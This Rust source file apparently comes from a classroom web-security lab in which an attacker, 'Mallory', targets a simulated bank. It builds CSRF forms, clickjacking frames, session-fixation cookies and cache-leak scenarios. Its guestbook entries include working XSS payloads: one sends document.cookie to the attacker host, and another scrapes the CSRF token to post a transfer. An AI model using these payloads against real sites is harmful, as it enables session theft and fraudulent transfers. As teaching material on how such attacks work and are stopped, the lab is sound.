//! The attacks: pages of Mallory, who is another site, and of a sibling of the bank, which is the same site. A page shows the
//! HTML that does it. What came of it is read from the bank's books, never guessed.

use std::collections::BTreeMap;

use askama::Template;
use axum::{
    Router,
    body::{Body, to_bytes},
    extract::{FromRef, Path, Query, Request, State},
    http::{StatusCode, header},
    response::{AppendHeaders, IntoResponse, Redirect, Response},
    routing::get,
};
use classroom::Page;
use serde::{Deserialize, Serialize};
use tower_service::Service;

use crate::{
    bank::Refused,
    books::{self, Cause, Embedded, MALLORY, Passed, Shown, Transfer, User, note},
    defences::Defence,
    hosts::{self, Hosts},
    lab::{Lab, Shared},
};

/// Whose page does it.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Whose {
    Attacker,
    Sibling,
}

pub struct Attack {
    pub id: &'static str,
    pub whose: Whose,
    pub title: &'static str,
    /// What Mallory wants, and how.
    pub says: &'static str,
    /// The amount that this attack takes, and no other: so the books say which it was.
    amount: Option<u32>,
}

const fn attack(
    id: &'static str,
    whose: Whose,
    title: &'static str,
    amount: Option<u32>,
    says: &'static str,
) -> Attack {
    Attack { id, whose, title, says, amount }
}

pub const ATTACKS: [Attack; 14] = [
    attack(
        "transfer-by-form",
        Whose::Attacker,
        "A form of another site sends money",
        Some(11),
        "The button is in a form. The form's address is the bank's, and its fields are filled in and hidden. Your browser adds \
         your cookie.",
    ),
    attack(
        "transfer-by-sibling",
        Whose::Sibling,
        "A form of a sibling sends money",
        Some(12),
        "The same form, at another host of the bank's own site. To SameSite, that is no other site.",
    ),
    attack(
        "logout-by-link",
        Whose::Attacker,
        "A link logs you out",
        None,
        "Nothing is stolen, and the bank changes something because of a link. Where the bank takes POST alone, Mallory has a \
         form in the place of the link.",
    ),
    attack(
        "logout-by-image",
        Whose::Sibling,
        "An image of a sibling logs you out",
        None,
        "You need to click nothing: the browser asks for the image as it shows the page. Where the bank takes POST alone, a \
         script of the page posts.",
    ),
    attack(
        "login-by-form",
        Whose::Attacker,
        "A form logs you in, as Mallory",
        None,
        "The form has Mallory's name and password. From then on, what you do at the bank, you do in her account, and she can \
         read it there.",
    ),
    attack(
        "script-takes-cookie",
        Whose::Attacker,
        "A script in the guestbook takes your cookie",
        None,
        "The button leaves an entry in the bank's guestbook, under Mallory's name, and leads you there. The entry is a script. \
         It runs as the bank's own, reads the cookie and sends it to Mallory.",
    ),
    attack(
        "script-transfers",
        Whose::Attacker,
        "A script in the guestbook sends money",
        Some(13),
        "This entry takes nothing away. It reads the bank's first page, token and all, and sends the bank's own form from the \
         bank's own page.",
    ),
    attack(
        "form-in-entry",
        Whose::Attacker,
        "A form in the guestbook sends money",
        Some(14),
        "This entry has no script. It is a form to the bank, with one button that says something else. Click it there.",
    ),
    attack(
        "planted-before-login",
        Whose::Sibling,
        "A planted id, before you log in",
        Some(15),
        "Mallory has opened the bank, and has an id that is nobody's yet. This page plants it in your browser, for the path of \
         the log-in. When you have logged in, she uses it.",
    ),
    attack(
        "planted-account",
        Whose::Sibling,
        "A planted account",
        None,
        "Mallory is logged in as herself, and this page plants her id for the path /account alone. You stay who you are on all \
         other pages. Under My account you are Mallory.",
    ),
    attack(
        "framed-by-sibling",
        Whose::Sibling,
        "The bank in a frame that you don't see",
        Some(16),
        "Over the button lies the bank's own page, in a frame that lets everything through but your click. Its form is filled \
         in by a payment link, and your click is on its button.",
    ),
    attack(
        "withheld",
        Whose::Attacker,
        "What browsers don't let through",
        None,
        "An image and a hidden frame of another site, both to the bank. The books say whether your cookie came with them, and \
         what the browser said in Sec-Fetch-Storage-Access.",
    ),
    attack(
        "cache-gives-login",
        Whose::Attacker,
        "A shared cache gives your session away",
        Some(17),
        "You reach the bank by a cache that others use, too. The answer that began your session, Set-Cookie and all, is what \
         the next visitor gets.",
    ),
    attack(
        "next-user-sees-page",
        Whose::Attacker,
        "The next user of your browser sees your page",
        None,
        "No page of Mallory's does this. Two people use one browser, one after the other, and the browser has kept a page.",
    ),
];

/// The sibling's pages.
pub fn sibling(lab: Shared) -> Router {
    let routes = Router::new()
        .route("/", get(|at: Hosts| async move { Redirect::to(&at.attacker) }))
        .route("/{attack}", get(|lab, at, path| show(lab, at, path, Whose::Sibling)));
    routes.with_state(lab)
}

/// The attacker's.
pub fn attacker(lab: Shared, bank: Router, cache: Router) -> Router {
    let show = get(|lab, at, path| show(lab, at, path, Whose::Attacker));
    Router::new()
        .route("/", get(list))
        .route("/take", get(take))
        .route("/{attack}", show.post(act))
        .with_state(Mallory { lab, bank, cache })
}

#[derive(Template)]
#[template(path = "attacks.html")]
struct List {
    at: Hosts,
    rows: Vec<Row>,
    stolen: Vec<Stolen>,
    withheld: Vec<Embedded>,
}

struct Row {
    attack: &'static Attack,
    address: String,
    result: Option<String>,
}

/// All attacks, each with what the bank's books say came of it.
async fn list(State(lab): State<Shared>, at: Hosts) -> impl IntoResponse {
    let lab = lab.lock();
    let row = |attack: &'static Attack| Row {
        attack,
        address: address(attack, &at),
        result: came_of(attack, &lab),
    };
    let rows = ATTACKS.iter().map(row).collect();
    let (stolen, withheld) = (lab.loot.stolen.clone(), lab.books.withheld.clone());
    ([(header::CACHE_CONTROL, "no-store")], Page(List { at, rows, stolen, withheld }))
}

fn address(attack: &Attack, at: &Hosts) -> String {
    let origin = match attack.whose {
        Whose::Attacker => &at.attacker,
        Whose::Sibling => &at.sibling,
    };
    format!("{origin}/{}", attack.id)
}

#[derive(Template)]
#[template(path = "attack.html")]
struct Show {
    at: Hosts,
    attack: &'static Attack,
    /// The HTML that does it: it goes into the page as it is, and once more to be read.
    lure: String,
    /// The cookie that the answer plants.
    plants: Option<Planted>,
    /// What the button leaves in the guestbook.
    entry: Option<String>,
}

/// The page that does it.
async fn show(
    State(lab): State<Shared>,
    at: Hosts,
    Path(id): Path<String>,
    whose: Whose,
) -> Result<Response, Refused> {
    let attack = ATTACKS.iter().find(|attack| attack.id == id && attack.whose == whose);
    let Some(attack) = attack else { return Ok(StatusCode::NOT_FOUND.into_response()) };
    let mut lab = lab.lock();
    let plants = plant(attack.id, &mut lab)?;
    let lure = lure(attack, &at, lab.defences.has(Defence::Post));
    let lines = plants.as_ref().map(|planted| (header::SET_COOKIE, planted.line()));
    let entry = entry(attack, &at);
    let page = Page(Show { at, attack, lure, plants, entry });
    Ok((AppendHeaders(lines), [(header::CACHE_CONTROL, "no-store")], page).into_response())
}

/// The `Set-Cookie` of a page that plants an id.
struct Planted {
    name: &'static str,
    id: String,
    attributes: String,
}

impl Planted {
    fn line(&self) -> String {
        format!("{}={}{}", self.name, self.id, self.attributes)
    }
}

/// A sibling may set a cookie for all hosts of its site, and the one with the longer path goes first. Where the bank's
/// cookie is called `__Host-bank`, the page tries that name, and browsers refuse it.
fn plant(id: &str, lab: &mut Lab) -> Result<Option<Planted>, Refused> {
    let (session, path) = match id {
        // Mallory has opened the bank's log-in page, and copied the id.
        "planted-before-login" => (lab.sessions.begin(None)?, "/login"),
        // Mallory has logged in with her own password, and copied the id.
        "planted-account" => (lab.sessions.begin(Some(MALLORY))?, "/account"),
        _ => return Ok(None),
    };
    let id = session.id;
    note(&mut lab.loot.planted, id.clone());
    let attributes = format!("; Domain=crumbs.localhost; Path={path}; Secure");
    Ok(Some(Planted { name: lab.defences.cookie_name(), id, attributes }))
}

/// What is in the page: the bait, and what it does. `post_alone`: the bank logs nobody out by `GET`.
fn lure(attack: &Attack, at: &Hosts, post_alone: bool) -> String {
    let bank = &at.bank;
    let amount = attack.amount.unwrap_or(0);
    let form = |path: &str, fields: &[(&str, &str)], button: &str| {
        let field = |(name, value): &(&str, &str)| {
            format!("  <input type=\"hidden\" name=\"{name}\" value=\"{value}\">\n")
        };
        let fields: String = fields.iter().map(field).collect();
        format!(
            "<form action=\"{bank}{path}\" method=\"post\">\n{fields}  <button id=\"lure\">{button}</button>\n</form>"
        )
    };
    let leave =
        "<form method=\"post\">\n  <button id=\"lure\">Leave it, and go there</button>\n</form>";
    match attack.id {
        "transfer-by-form" | "transfer-by-sibling" => {
            let fields = [("to", MALLORY), ("amount", &*amount.to_string())];
            form("/transfer", &fields, "Win a bicycle")
        }
        "logout-by-link" if post_alone => form("/logout", &[], "A funny picture"),
        "logout-by-link" => format!("<a id=\"lure\" href=\"{bank}/logout\">A funny picture</a>"),
        "logout-by-image" => {
            let asks = if post_alone {
                format!(
                    "<script>\n  const body = new URLSearchParams();\n  \
                     fetch(\"{bank}/logout\", {{ method: \"POST\", body, mode: \"no-cors\", credentials: \"include\" }});\n</script>"
                )
            } else {
                format!("<img src=\"{bank}/logout\" alt=\"\">")
            };
            format!("{asks}\n<a id=\"lure\" href=\"{bank}/\">On to the bank</a>")
        }
        "login-by-form" => {
            let password = books::password(MALLORY);
            form("/login", &[("name", MALLORY), ("password", password)], "Claim your voucher")
        }
        "planted-before-login" => {
            format!("<a id=\"lure\" href=\"{bank}/login\">Log in at the bank</a>")
        }
        "planted-account" => {
            format!("<a id=\"lure\" href=\"{bank}/account\">Your account at the bank</a>")
        }
        "framed-by-sibling" => format!(
            "<style>\n  #bait {{ position: relative; height: 5rem; }}\n  #lure {{ position: absolute; left: 2.25rem; top: 0; }}\n  \
             #unseen {{ position: absolute; left: 0; top: 0; width: 18rem; height: 5rem; border: 0; opacity: 0; }}\n  \
             #show:checked ~ #bait #unseen {{ opacity: .8; }}\n</style>\n\
             <input type=\"checkbox\" id=\"show\"> <label for=\"show\">Show what lies over it</label>\n\
             <div id=\"bait\">\n  <button id=\"lure\" type=\"button\">Win</button>\n  \
             <iframe id=\"unseen\" title=\"the bank\" scrolling=\"no\"\n    \
             src=\"{bank}/?to=mallory&amp;amount={amount}#send\"></iframe>\n</div>"
        ),
        "withheld" => format!(
            "<img src=\"{bank}/logout\" alt=\"\">\n<iframe src=\"{bank}/\" title=\"the bank\" hidden></iframe>\n\
             <a id=\"lure\" href=\"{}/\">What came of it</a>",
            at.attacker
        ),
        "script-takes-cookie" | "script-transfers" | "form-in-entry" => leave.to_owned(),
        "cache-gives-login" => format!(
            "<ol>\n  <li>Log out of <a href=\"{0}/\">the bank, by the cache</a>, if you are logged in there.</li>\n  \
             <li>There, follow <em>My account</em>: nobody is logged in, and a session begins.</li>\n  \
             <li>There, log in as ada.</li>\n  <li>Now somebody else comes, within a minute:</li>\n</ol>\n\
             <form method=\"post\">\n  <button id=\"lure\">Be the next visitor</button>\n</form>",
            at.cache
        ),
        _ => format!(
            "<ol>\n  <li>At <a id=\"lure\" href=\"{bank}/\">the bank</a>, log in as ada and follow <em>My account</em>.</li>\n  \
             <li>Go to the bank's first page, and log out.</li>\n  \
             <li>Log in as bob, and follow <em>My account</em>, within a minute.</li>\n</ol>"
        ),
    }
}

/// What Mallory writes into the guestbook.
fn entry(attack: &Attack, at: &Hosts) -> Option<String> {
    let amount = attack.amount.unwrap_or(0);
    Some(match attack.id {
        "script-takes-cookie" => format!(
            "Nice bank! <script>new Image().src = \"{}/take?cookie=\" + encodeURIComponent(document.cookie)</script>",
            at.attacker
        ),
        "script-transfers" => format!(
            "Nice bank! <script>\nfetch(\"/\").then(answer => answer.text()).then(page => {{\n  \
             const token = page.match(/name=\"token\" value=\"(.*?)\"/)?.[1] ?? \"\";\n  \
             const body = new URLSearchParams({{ to: \"mallory\", amount: \"{amount}\", token }});\n  \
             fetch(\"/transfer\", {{ method: \"POST\", body }});\n}});\n</script>"
        ),
        "form-in-entry" => format!(
            "Nice bank! <form action=\"/transfer\" method=\"post\"><input type=\"hidden\" name=\"to\" value=\"mallory\">\
             <input type=\"hidden\" name=\"amount\" value=\"{amount}\"><button id=\"read-on\">Read on</button></form>"
        ),
        _ => return None,
    })
}

#[derive(Deserialize)]
struct Taken {
    cookie: String,
}

/// What a script sent to Mallory, and whose session it opens.
#[derive(Clone, Serialize)]
pub struct Stolen {
    pub cookie: String,
    pub opens: Option<User>,
}

/// Where the script of `script-takes-cookie` sends what it found.
async fn take(State(lab): State<Shared>, Query(taken): Query<Taken>) -> StatusCode {
    /// What is kept of it, in characters.
    const LONGEST: usize = 400;
    let mut lab = lab.lock();
    let opens = taken
        .cookie
        .split(';')
        .filter_map(|pair| pair.split_once('='))
        .find_map(|(_, id)| lab.sessions.user_of(id.trim()));
    let cookie = taken.cookie.chars().take(LONGEST).collect();
    note(&mut lab.loot.stolen, Stolen { cookie, opens });
    StatusCode::NO_CONTENT
}

/// Mallory at her own computer. Nothing of what she sends there needs a browser, so no browser's rule holds her back; this
/// program plays her, and the wire doesn't show it.
#[derive(Clone)]
struct Mallory {
    lab: Shared,
    bank: Router,
    cache: Router,
}

impl FromRef<Mallory> for Shared {
    fn from_ref(mallory: &Mallory) -> Self {
        mallory.lab.clone()
    }
}

/// The button of a page of hers.
async fn act(
    State(mut mallory): State<Mallory>,
    at: Hosts,
    Path(id): Path<String>,
) -> Result<Response, Refused> {
    let attack = ATTACKS.iter().find(|attack| attack.id == id);
    let Some(attack) = attack else { return Ok(StatusCode::NOT_FOUND.into_response()) };
    // She has an account at the bank, and so may write there.
    if let Some(entry) = entry(attack, &at) {
        mallory.lab.lock().write(MALLORY, &entry)?;
        return Ok(Redirect::to(&format!("{}/guestbook", at.bank)).into_response());
    }
    match attack.id {
        "planted-before-login" => mallory.use_planted(attack).await,
        "cache-gives-login" => mallory.be_next(attack).await,
        _ => return Ok(StatusCode::METHOD_NOT_ALLOWED.into_response()),
    }
    Ok(Redirect::to("/").into_response())
}

impl Mallory {
    /// She uses an id that she had planted, if somebody has logged in with it.
    async fn use_planted(&mut self, attack: &Attack) {
        let pair = {
            let lab = self.lab.lock();
            let mut planted = lab.loot.planted.iter().rev();
            let victims =
                |id: &&String| lab.sessions.user_of(id).is_some_and(|user| user != MALLORY);
            planted.find(victims).map(|id| format!("{}={id}", lab.defences.cookie_name()))
        };
        if let Some(pair) = pair {
            transfer(&mut self.bank, hosts::BANK, &pair, attack).await;
        }
    }

    /// She comes to the cache without a cookie, and uses the one that she is given.
    async fn be_next(&mut self, attack: &Attack) {
        let Ok(look) = asks("GET", hosts::CACHE, "/account").body(Body::empty()) else { return };
        let Ok(answer) = self.cache.call(look).await;
        let line = answer.headers().get(header::SET_COOKIE).and_then(|line| line.to_str().ok());
        if let Some(pair) = line.and_then(|line| line.split(';').next()) {
            transfer(&mut self.cache, hosts::CACHE, pair, attack).await;
        }
    }
}

/// Sends money as whoever this cookie opens: reads the bank's page for its token, and sends its form as the page would.
async fn transfer(bank: &mut Router, host: &str, pair: &str, attack: &Attack) {
    const LONGEST: usize = 64 * 1024;
    let Ok(look) = asks("GET", host, "/").header(header::COOKIE, pair).body(Body::empty()) else {
        return;
    };
    let Ok(page) = bank.call(look).await;
    let page = to_bytes(page.into_body(), LONGEST).await.unwrap_or_default();
    let page = String::from_utf8_lossy(&page);
    let token =
        page.split_once("name=\"token\" value=\"").and_then(|(_, rest)| rest.split('"').next());
    let form = format!(
        "to={MALLORY}&amount={}&token={}",
        attack.amount.unwrap_or(0),
        token.unwrap_or_default()
    );
    let send = asks("POST", host, "/transfer")
        .header(header::COOKIE, pair)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(form));
    if let Ok(send) = send {
        // Whether it worked, the books say.
        let _ = bank.call(send).await;
    }
}

/// A client that is no browser says whatever is asked for.
fn asks(method: &str, host: &str, target: &str) -> axum::http::request::Builder {
    Request::builder()
        .method(method)
        .uri(target)
        .header(header::HOST, host)
        .header("sec-fetch-site", "same-origin")
}

/// What an attack got, by the bank's books: nothing, where it did not work.
fn came_of(attack: &Attack, lab: &Lab) -> Option<String> {
    let books = &lab.books;
    let by = |site| move |passed: &&Passed| passed.site == site;
    let logged_out = |passed: &Passed| format!("{} was logged out.", passed.user);
    let shown = |is: fn(User, User) -> bool| {
        let mut all = books.shown.iter();
        all.find_map(|Shown { page, to }| {
            to.filter(|to| is(page, to)).map(|to| format!("{to} was shown the account of {page}."))
        })
    };
    match attack.id {
        "logout-by-link" => books.log_outs.iter().find(by(Cause::CrossSite)).map(logged_out),
        "logout-by-image" => books.log_outs.iter().find(by(Cause::SameSite)).map(logged_out),
        "login-by-form" => {
            let mut log_ins = books.log_ins.iter().filter(by(Cause::CrossSite));
            let log_in = log_ins.find(|log_in| log_in.user == MALLORY);
            log_in.map(|_| "Your browser is logged in as mallory.".to_owned())
        }
        "script-takes-cookie" => {
            let opens = lab.loot.stolen.iter().find_map(|stolen| stolen.opens);
            opens.map(|user| format!("Mallory has a cookie that opens the session of {user}."))
        }
        "planted-account" => shown(|page, to| page == MALLORY && to != MALLORY),
        "next-user-sees-page" => shown(|page, to| page != MALLORY && to != page),
        "withheld" => {
            let came = books.withheld.iter().find(|embedded| embedded.cookie);
            came.map(|embedded| format!("The cookie came with {}.", embedded.what))
        }
        _ => {
            let is_it = |transfer: &&Transfer| {
                transfer.to == MALLORY && Some(transfer.amount) == attack.amount
            };
            let transfer = books.transfers.iter().find(is_it);
            transfer
                .map(|Transfer { from, amount, .. }| format!("{from} sent {amount} to mallory."))
        }
    }
}

/// Each attack, and whether it worked.
pub fn worked(lab: &Lab) -> BTreeMap<&'static str, bool> {
    ATTACKS.iter().map(|attack| (attack.id, came_of(attack, lab).is_some())).collect()
}
